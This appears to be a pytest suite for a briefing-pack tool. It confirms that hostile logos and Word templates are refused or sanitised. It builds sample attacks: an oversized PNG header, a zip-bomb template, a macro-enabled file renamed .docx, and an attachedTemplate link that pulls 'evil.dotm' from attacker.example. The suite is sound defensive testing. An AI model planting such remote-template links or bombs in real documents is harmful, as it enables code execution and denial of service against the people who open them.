"""The logo and Word template are checked by `validate` as deeply as `build` checks them, and a
template brings nothing from outside into a briefing. Every hostile file is made by the test."""

from __future__ import annotations

import re
import struct
import zipfile
import zlib
from pathlib import Path

from briefing.cli import main
from briefing.export.docx.writer import reference_template

PACK = """\
briefing_pack: 1
title: Layout pack
layout:
  logo: crest.png
  logo_alt: Example crest
  template: house.docx
sections:
  - title: Housing
    items:
      - article: a1
        summary: Costs rose again this year.
articles:
  a1:
    title: Temporary accommodation costs
"""
CREST = Path(__file__).resolve().parents[2] / "packs" / "images" / "example-council-logo.png"


def _pack(folder: Path, crest: bytes | None = None, template: bytes | None = None) -> Path:
    (folder / "crest.png").write_bytes(crest if crest is not None else CREST.read_bytes())
    (folder / "house.docx").write_bytes(
        template if template is not None else reference_template().read_bytes()
    )
    path = folder / "pack.yaml"
    path.write_text(PACK, encoding="utf-8")
    return path


def _both_refuse(pack: Path, capsys, expected: str) -> None:  # type: ignore[no-untyped-def]
    assert main(["validate", str(pack)]) == 1
    err = capsys.readouterr().err
    assert expected in err, err
    assert main(["build", str(pack), "-q"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and "0x" not in err and "@" not in err, err
    assert not list(pack.parent.glob("Layout pack*")), "a refused build wrote files"


def _png_header(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(ihdr))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
    )


def test_a_huge_png_is_refused_from_its_header(tmp_path: Path, capsys) -> None:
    huge = _png_header(20_000, 20_000) + b"\x00" * 100
    _both_refuse(
        _pack(tmp_path, crest=huge),
        capsys,
        "“crest.png” is 20,000 × 20,000 pixels, too large to use",
    )


def test_a_png_of_garbage_is_refused_by_validate_too(tmp_path: Path, capsys) -> None:
    garbage = _png_header(200, 100) + bytes(range(256)) * 8
    _both_refuse(
        _pack(tmp_path, crest=garbage), capsys, "“crest.png” is damaged and cannot be read"
    )


def test_a_logo_that_is_a_folder_is_not_a_file(tmp_path: Path, capsys) -> None:
    pack = _pack(tmp_path)
    (tmp_path / "crest.png").unlink()
    (tmp_path / "crest.png").mkdir()
    assert main(["validate", str(pack)]) == 1
    err = capsys.readouterr().err
    assert "logo file “crest.png” is not a file (it is a folder or a device)" in err
    assert "not found" not in err


def _template_with(extra: dict[str, bytes], edit=None) -> bytes:  # type: ignore[no-untyped-def]
    import io

    out = io.BytesIO()
    with (
        zipfile.ZipFile(reference_template()) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if edit is not None:
                data = edit(item.filename, data)
            target.writestr(item.filename, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def test_a_macro_enabled_template_renamed_docx_is_refused(tmp_path: Path, capsys) -> None:
    def macro_types(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return data.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
        return data

    docm = _template_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really VBA"}, macro_types)
    _both_refuse(
        _pack(tmp_path, template=docm),
        capsys,
        "“house.docx” contains macros (it is a macro-enabled .docm",
    )


def test_a_template_bomb_is_refused(tmp_path: Path, capsys) -> None:
    import io

    out = io.BytesIO()
    with (
        zipfile.ZipFile(reference_template()) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for item in source.infolist():
            if item.filename != "word/styles.xml":
                target.writestr(item.filename, source.read(item.filename))
        with target.open("word/styles.xml", "w", force_zip64=True) as stream:
            for _ in range(45):
                stream.write(b" " * (1024 * 1024))
    _both_refuse(
        _pack(tmp_path, template=out.getvalue()), capsys, "“house.docx” is too large to read safely"
    )


def test_external_links_in_a_template_are_dropped(tmp_path: Path) -> None:
    def attach(name: str, data: bytes) -> bytes:
        if name == "word/settings.xml":
            return re.sub(
                rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdEvil"/>', data, count=1
            )
        if name == "word/_rels/settings.xml.rels":
            return data.replace(
                b"</Relationships>",
                (
                    b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="https://attacker.example/evil.dotm" TargetMode="External"/>'
                    b"</Relationships>"
                ),
            )
        return data

    template = _template_with({}, attach)
    if b"settings.xml.rels" not in template:
        template = _template_with(
            {
                "word/_rels/settings.xml.rels": (
                    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                    b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                    b'Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/attachedTemplate" Target="https://attacker.example/evil.dotm" '
                    b'TargetMode="External"/></Relationships>'
                )
            },
            attach,
        )
    with zipfile.ZipFile(__import__("io").BytesIO(template)) as check:
        assert b"attacker.example" in check.read("word/_rels/settings.xml.rels")
    pack = _pack(tmp_path, template=template)
    assert main(["build", str(pack), "--format", "docx", "-q"]) == 0
    with zipfile.ZipFile(tmp_path / "Layout pack.docx") as built:
        everything = b"".join(
            built.read(name) for name in built.namelist() if name.endswith((".xml", ".rels"))
        )
    assert b"attacker.example" not in everything
    assert b'TargetMode="External"' not in everything
    assert b"attachedTemplate" not in everything
